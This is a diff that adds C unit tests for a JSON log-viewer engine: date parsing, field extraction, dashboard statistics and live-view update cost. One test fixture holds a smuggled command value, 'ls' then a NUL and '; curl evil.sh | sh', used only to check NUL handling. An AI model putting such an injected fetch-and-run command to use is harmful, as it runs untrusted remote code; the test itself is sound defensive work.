@@ -14,6 +14,7 @@
 #include <unistd.h>
 
 #include "engine.h"
+#include "engine-int.h"
 #include "util.h"
 
 #define FIXTURE SRCDIR "/data/fixture"
@@ -161,6 +162,13 @@ test_time_parse_log(void)
 		{ "1795691792123456", 1795691792123456 },
 		{ "2026-11-26T11:16:32.Z", INT64_MIN },
 		{ "2026-02-30X11:16:32Z", INT64_MIN },
+		/* impossible dates are no time, never the days after */
+		{ "2026-02-31T10:00:00.000Z", INT64_MIN },
+		{ "2026-02-29T10:00:00Z", INT64_MIN },
+		{ "2026-04-31 10:00:00", INT64_MIN },
+		{ "1900-02-29T00:00:00Z", INT64_MIN },
+		{ "2024-02-29T00:00:00.000Z", 1709164800000000 },
+		{ "2000-02-29T00:00:00Z", 951782400000000 },
 		{ "2026-11-26T11:16:32+25:00", INT64_MIN },
 		{ "yesterday", INT64_MIN },
 		{ "", INT64_MIN },
@@ -406,10 +414,89 @@ test_order_and_malformed_neighbours(void)
 	CU_ASSERT_STRING_EQUAL(eng_line(e, eng_view_get(v, i), &n),
 	    "{\"category\":\"llm\",\"timestamp\":\"2026-11-26T10:06");
 	CU_ASSERT_EQUAL(n, 47);
-	CU_ASSERT_PTR_NULL(eng_parse(e, eng_view_get(v, i)));
+	{
+		struct eng_fields fl;
+		const char *s = eng_line(e, eng_view_get(v, i), &n);
+
+		eng_fields_init(&fl);
+		CU_ASSERT_FALSE(eng_entry_fields(s, n, &fl));
+		CU_ASSERT_EQUAL(fl.n, 0);
+		eng_fields_free(&fl);
+	}
 	CU_ASSERT_PTR_NULL(eng_view_get(v, eng_view_count(v)));
 	eng_view_free(v);
 	eng_close(e);
+}
+
+/* The pretty walk: "key: value" lines, decoded, in the line's order, a
+ * key given twice once where it first appears with its last value. */
+static void
+test_entry_fields(void)
+{
+	static const char line[] =
+	    "{\"a\":\"x\\u0000y\",\"k\\u0000ey\":1.50,\"a\":\"last\","
+	    "\"n\":{\"e\":{},\"l\":[true,null,[]],\"s\":\"\"},"
+	    "\"big\":1e400,\"esc\":\"\\u00e9\\n\"}";
+	static const struct {
+		unsigned depth;
+		enum eng_field_kind kind;
+		const char *key;	/* NULL: none */
+		size_t key_len;
+		const char *text;	/* NULL: a heading */
+		size_t text_len;
+	} want[] = {
+		{ 0, ENG_FIELD_STRING, "a", 1, "last", 4 },
+		{ 0, ENG_FIELD_NUMBER, "k\0ey", 4, "1.50", 4 },
+		{ 0, ENG_FIELD_OBJECT, "n", 1, NULL, 0 },
+		{ 1, ENG_FIELD_OBJECT, "e", 1, "{}", 2 },
+		{ 1, ENG_FIELD_ARRAY, "l", 1, NULL, 0 },
+		{ 2, ENG_FIELD_TRUE, NULL, 0, "true", 4 },
+		{ 2, ENG_FIELD_NULL, NULL, 0, "null", 4 },
+		{ 2, ENG_FIELD_ARRAY, NULL, 0, "[]", 2 },
+		{ 1, ENG_FIELD_STRING, "s", 1, "", 0 },
+		{ 0, ENG_FIELD_NUMBER, "big", 3, "1e400", 5 },
+		{ 0, ENG_FIELD_STRING, "esc", 3, "\xc3\xa9\n", 3 },
+	};
+	static const char nul_value[] = "{\"u\":\"ls\\u0000; curl evil.sh | sh\"}";
+	struct eng_fields f;
+
+	eng_fields_init(&f);
+	CU_ASSERT_TRUE_FATAL(eng_entry_fields(line, sizeof line - 1, &f));
+	CU_ASSERT_EQUAL_FATAL(f.n, sizeof want / sizeof want[0]);
+	for (size_t i = 0; i < f.n; i++) {
+		const struct eng_field *l = &f.v[i];
+
+		CU_ASSERT_EQUAL(l->depth, want[i].depth);
+		CU_ASSERT_EQUAL(l->kind, want[i].kind);
+		if (want[i].key == NULL) {
+			CU_ASSERT_PTR_NULL(l->key);
+		} else {
+			CU_ASSERT_EQUAL(l->key_len, want[i].key_len);
+			CU_ASSERT(l->key != NULL && memcmp(l->key, want[i].key,
+			    want[i].key_len) == 0);
+		}
+		if (want[i].text == NULL) {
+			CU_ASSERT_PTR_NULL(l->text);
+		} else {
+			CU_ASSERT_EQUAL(l->text_len, want[i].text_len);
+			CU_ASSERT(l->text != NULL && memcmp(l->text,
+			    want[i].text, want[i].text_len) == 0 &&
+			    l->text[l->text_len] == '\0');
+		}
+	}
+	/* a NUL never ends a text */
+	CU_ASSERT_TRUE(eng_entry_fields(nul_value, sizeof nul_value - 1, &f));
+	CU_ASSERT_EQUAL(f.n, 1);
+	CU_ASSERT_EQUAL(f.v[0].text_len, 22);
+	/* an empty object has no fields */
+	CU_ASSERT_TRUE(eng_entry_fields("{ }", 3, &f));
+	CU_ASSERT_EQUAL(f.n, 0);
+	/* not an object, or not JSON: no fields */
+	CU_ASSERT_FALSE(eng_entry_fields("[1]", 3, &f));
+	CU_ASSERT_EQUAL(f.n, 0);
+	CU_ASSERT_FALSE(eng_entry_fields("{\"a\":tru}", 10, &f));
+	CU_ASSERT_FALSE(eng_entry_fields("{\"a\":True}", 11, &f));
+	eng_fields_free(&f);
 }
 
 static void
@@ -994,6 +1081,335 @@ test_stats_slices_generated(void)
 	}
 }
 
+/* ---- the dashboard's figures, against their documented rule ---- */
+
+struct ref_req {
+	int64_t minute;		/* INT64_MIN: untimed */
+	double ms;
+};
+
+static int
+cmp_double(const void *a, const void *b)
+{
+	double x = *(const double *)a, y = *(const double *)b;
+
+	return (x > y) - (x < y);
+}
+
+/* An entry's line as json-c reads it (NULL when it is no JSON object). */
+static json_object *
+entry_json(struct eng *e, const struct eng_entry *en)
+{
+	struct json_tokener *tok = json_tokener_new();
+	json_object *o;
+	size_t n;
+	const char *s = eng_line(e, en, &n);
+
+	o = s != NULL ? json_tokener_parse_ex(tok, s, (int)n) : NULL;
+	json_tokener_free(tok);
+	if (o != NULL && !json_object_is_type(o, json_type_object)) {
+		json_object_put(o);
+		o = NULL;
+	}
+	return o;
+}
+
+/* Nearest rank: the smallest value with at least q of them at or below. */
+static double
+ref_rank(double *v, size_t n, double q)
+{
+	size_t rank;
+
+	if (n == 0)
+		return NAN;
+	qsort(v, n, sizeof *v, cmp_double);
+	rank = (size_t)ceil(q * (double)n);
+	return v[rank < 1 ? 0 : rank - 1];
+}
+
+static bool
+jbool(json_object *o, const char *key, bool dflt)
+{
+	json_object *v;
+
+	return json_object_object_get_ex(o, key, &v) ?
+	    json_object_get_boolean(v) : dflt;
+}
+
+static double
+jdouble(json_object *o, const char *key)
+{
+	json_object *v;
+
+	return json_object_object_get_ex(o, key, &v) ?
+	    json_object_get_double(v) : NAN;
+}
+
+/* The figures of the entries of v whose minute starts in [from, to),
+ * read from their lines. */
+static void
+ref_period(struct eng *e, struct eng_view *v, int64_t from, int64_t to,
+    struct eng_period *out)
+{
+	double *d = calloc(eng_view_count(v) + 1, sizeof *d);
+	size_t nd = 0;
+
+	memset(out, 0, sizeof *out);
+	for (size_t i = 0; i < eng_view_count(v); i++) {
+		const struct eng_entry *en = eng_view_get(v, i);
+		int64_t t = en->time_us, m;
+		json_object *o;
+
+		if (en->flags & (ENTRY_MALFORMED | ENTRY_FOREIGN))
+			continue;
+		if (t == ENG_TIME_NONE) {
+			if (from != ENG_TIME_NONE)
+				continue;
+		} else {
+			m = (t >= 0 ? t / ENG_US_PER_MIN :
+			    (t + 1) / ENG_US_PER_MIN - 1) * ENG_US_PER_MIN;
+			if ((from != ENG_TIME_NONE && m < from) || m >= to)
+				continue;
+		}
+		o = entry_json(e, en);
+		CU_ASSERT_PTR_NOT_NULL_FATAL(o);
+		switch (en->category) {
+		case LLMLOG_USER:
+			if (t != ENG_TIME_NONE) {
+				out->requests++;
+				out->requests_ok += jbool(o, "success", false);
+			}
+			if (!isnan(jdouble(o, "duration_ms")))
+				d[nd++] = jdouble(o, "duration_ms");
+			break;
+		case LLMLOG_LLM:
+			if (t == ENG_TIME_NONE)
+				break;
+			out->llm_calls++;
+			out->llm_failed += !jbool(o, "success", true);
+			out->tokens += (uint64_t)llround(jdouble(o,
+			    "prompt_tokens") + jdouble(o, "completion_tokens"));
+			break;
+		case LLMLOG_SECURITY:
+			if (t != ENG_TIME_NONE)
+				out->denied += !jbool(o, "allowed", false);
+			break;
+		}
+		json_object_put(o);
+	}
+	out->p95_request_ms = ref_rank(d, nd, 0.95);
+	free(d);
+}
+
+static void
+check_period(struct eng *e, struct eng_view *v, struct eng_stats *s,
+    int64_t from, int64_t to)
+{
+	struct eng_period got, want;
+
+	eng_stats_period(s, from, to, &got);
+	ref_period(e, v, from, to, &want);
+	CU_ASSERT_EQUAL(got.requests, want.requests);
+	CU_ASSERT_EQUAL(got.requests_ok, want.requests_ok);
+	CU_ASSERT_EQUAL(got.llm_calls, want.llm_calls);
+	CU_ASSERT_EQUAL(got.llm_failed, want.llm_failed);
+	CU_ASSERT_EQUAL(got.tokens, want.tokens);
+	CU_ASSERT_EQUAL(got.denied, want.denied);
+	CU_ASSERT(isnan(want.p95_request_ms) ? isnan(got.p95_request_ms) :
+	    got.p95_request_ms == want.p95_request_ms);
+}
+
+/* Each bucket's request latency, from the requests' lines. */
+static void
+check_latency(struct eng *e, struct eng_view *v, struct eng_stats *s)
+{
+	struct eng_hist h;
+	double *p50, *p95, *d = calloc(eng_view_count(v) + 1, sizeof *d);
+	size_t nonempty = 0;
+
+	eng_hist_build(s, 50, ENG_US_PER_SEC, true, &h);
+	CU_ASSERT_FATAL(h.n > 10);
+	p50 = calloc(h.n, sizeof *p50);
+	p95 = calloc(h.n, sizeof *p95);
+	eng_hist_latency(s, &h, p50, p95);
+	for (size_t b = 0; b < h.n; b++) {
+		int64_t start = h.start_us + (int64_t)b * h.width_us;
+		size_t nd = 0;
+		double w50, w95;
+
+		for (size_t i = 0; i < eng_view_count(v); i++) {
+			const struct eng_entry *en = eng_view_get(v, i);
+			json_object *o;
+
+			if (en->category != LLMLOG_USER || (en->flags &
+			    (ENTRY_MALFORMED | ENTRY_FOREIGN)) ||
+			    en->time_us < start ||
+			    en->time_us >= start + h.width_us)
+				continue;
+			o = entry_json(e, en);
+			if (!isnan(jdouble(o, "duration_ms")))
+				d[nd++] = jdouble(o, "duration_ms");
+			json_object_put(o);
+		}
+		w95 = ref_rank(d, nd, 0.95);
+		w50 = ref_rank(d, nd, 0.50);
+		nonempty += nd > 0;
+		CU_ASSERT(nd == 0 ? isnan(p50[b]) && isnan(p95[b]) :
+		    p50[b] == w50 && p95[b] == w95);
+	}
+	CU_ASSERT(nonempty > 10);
+	free(p50);
+	free(p95);
+	free(d);
+	eng_hist_free(&h);
+}
+
+/* The slowest performance entries: their own entries, in the JSON's
+ * order. */
+static void
+check_slowest(struct eng *e, struct eng_stats *s)
+{
+	json_object *o = eng_stats_json(s), *slow;
+	struct eng_slowest sl;
+	size_t n;
+
+	slow = json_object_object_get(json_object_object_get(o,
+	    "performance"), "slowest");
+	n = json_object_array_length(slow);
+	CU_ASSERT(n > 0);
+	for (size_t i = 0; i < n; i++) {
+		json_object *it = json_object_array_get_idx(slow, i), *line;
+
+		CU_ASSERT_FATAL(eng_stats_slowest(s, i, &sl));
+		CU_ASSERT_STRING_EQUAL(sl.operation, json_object_get_string(
+		    json_object_object_get(it, "operation")));
+		CU_ASSERT_EQUAL(sl.ms, json_object_get_double(
+		    json_object_object_get(it, "duration_ms")));
+		CU_ASSERT_EQUAL(sl.entry.category, LLMLOG_PERFORMANCE);
+		line = entry_json(e, &sl.entry);
+		CU_ASSERT_PTR_NOT_NULL_FATAL(line);
+		CU_ASSERT_STRING_EQUAL(sl.operation, json_object_get_string(
+		    json_object_object_get(line, "operation")));
+		CU_ASSERT_EQUAL(sl.ms, jdouble(line, "duration_ms"));
+		json_object_put(line);
+	}
+	CU_ASSERT_FALSE(eng_stats_slowest(s, n, &sl));
+	json_object_put(o);
+}
+
+/* Counted in slices while lines arrive (some before older ones), the
+ * figures by time are those of the lines. */
+static void
+test_stats_dashboard(void)
+{
+	const char *dir = util_tmpdir("dashboard");
+	struct eng *e;
+	struct eng_view *v;
+	struct eng_stats *s = eng_stats_new();
+	int64_t mid;
+
+	gen_lines(dir, 0, GEN_FIRST, 1);
+	e = load(dir);
+	v = view_all(e);
+	mid = INT64_C(1795262400) * ENG_US_PER_SEC;	/* 2026-11-21 12:00Z */
+	while (!eng_stats_update_some(s, v, 4096))
+		;
+	check_period(e, v, s, ENG_TIME_NONE, INT64_MAX);
+	for (int round = 0; round < 3; round++) {
+		/* a live view's few new lines (merged into what is kept in
+		 * order), then a few hundred */
+		gen_lines(dir, GEN_FIRST + round * GEN_MORE, round == 2 ?
+		    GEN_MORE : 3, 7 + round);
+		CU_ASSERT(eng_refresh(e) > 0);
+		CU_ASSERT(eng_view_update(v) > 0);
+		eng_stats_update(s, v);
+		check_period(e, v, s, mid, INT64_MAX);
+	}
+	check_period(e, v, s, ENG_TIME_NONE, INT64_MAX);
+	check_period(e, v, s, mid, INT64_MAX);
+	check_period(e, v, s, ENG_TIME_NONE, mid);
+	check_period(e, v, s, mid - ENG_US_PER_HOUR, mid + 90 * ENG_US_PER_MIN);
+	check_latency(e, v, s);
+	check_slowest(e, s);
+	eng_stats_free(s);
+	eng_view_free(v);
+	eng_close(e);
+	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
+}
+
+/* The report of a fresh count of v. */
+static char *
+fresh_text(struct eng_view *v)
+{
+	struct eng_stats *s = eng_stats_new();
+	char *t;
+
+	eng_stats_update(s, v);
+	t = stats_text(s);
+	eng_stats_free(s);
+	return t;
+}
+
+/* A live view's few new entries cost what they are: when all passed the
+ * filter no position of the view is looked at; when some did not, those
+ * at its end; only an entry that sorts before the end makes the stats
+ * look at the whole view. */
+static void
+test_stats_live_cost(void)
+{
+	static const char *const levels[] = { "INFO", "DEBUG", "INFO", "INFO" };
+	const char *dir = util_tmpdir("live");
+	struct eng *e;
+	struct eng_view *v;
+	struct eng_stats *s = eng_stats_new();
+	struct eng_filter flt;
+	char path[4096], *got, *want;
+	uint64_t before;
+	FILE *f;
+
+	gen_lines(dir, 0, GEN_FIRST, 1);
+	e = load(dir);
+	eng_filter_init(&flt);
+	flt.min_level = LLMLOG_INFO;
+	v = eng_view_new(e, &flt);
+	eng_stats_update(s, v);
+	snprintf(path, sizeof path, "%s/tool_executions.log", dir);
+	for (int round = 0; round < 3; round++) {
+		/* three at the end, one of them DEBUG; the same; and
+		 * three that sort before every other */
+		f = fopen(path, "a");
+		CU_ASSERT_PTR_NOT_NULL_FATAL(f);
+		for (int i = 0; i < 3; i++)
+			fprintf(f, "{\"category\":\"tool\",\"timestamp\":"
+			    "\"2026-%s.00%dZ\",\"level\":\"%s\","
+			    "\"event\":\"e\",\"tool_name\":\"live\"}\n",
+			    round == 2 ? "11-01T00:00:00" : "12-01T00:00:00", i,
+			    levels[round == 1 ? 0 : i]);
+		fclose(f);
+		CU_ASSERT_EQUAL(eng_refresh(e), 3);
+		before = stats_positions_read(s);
+		eng_view_update(v);
+		eng_stats_update(s, v);
+		if (round == 0) {
+			CU_ASSERT_EQUAL(stats_positions_read(s) - before, 2);
+		} else if (round == 1) {
+			CU_ASSERT_EQUAL(stats_positions_read(s) - before, 0);
+		} else {
+			CU_ASSERT(stats_positions_read(s) - before >=
+			    eng_view_count(v));
+		}
+	}
+	got = stats_text(s);
+	want = fresh_text(v);
+	expect_same_text(got, want, "live entries");
+	free(got);
+	free(want);
+	eng_stats_free(s);
+	eng_view_free(v);
+	eng_close(e);
+	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
+}
+
 /* Escapes, quotes and brackets at every offset from the 64-byte blocks
  * the line check reads: an entry is malformed exactly when json-c cannot
  * parse its line. */
@@ -1065,6 +1481,7 @@ main(void)
 		{ "category counts", test_category_counts },
 		{ "order, malformed neighbours",
 		    test_order_and_malformed_neighbours },
+		{ "entry fields", test_entry_fields },
 		{ "search", test_search },
 		{ "regex", test_regex },
 		{ "open errors", test_open_errors },
@@ -1074,6 +1491,9 @@ main(void)
 		{ "histogram", test_hist },
 		{ "stats in slices, fixture", test_stats_slices_fixture },
 		{ "stats in slices, with follow", test_stats_slices_generated },
+		{ "the dashboard's figures", test_stats_dashboard },
+		{ "a live view's new entries cost what they are",
+		    test_stats_live_cost },
 		{ "line check at block offsets", test_line_check_offsets },
 		{ NULL, NULL },
 	};
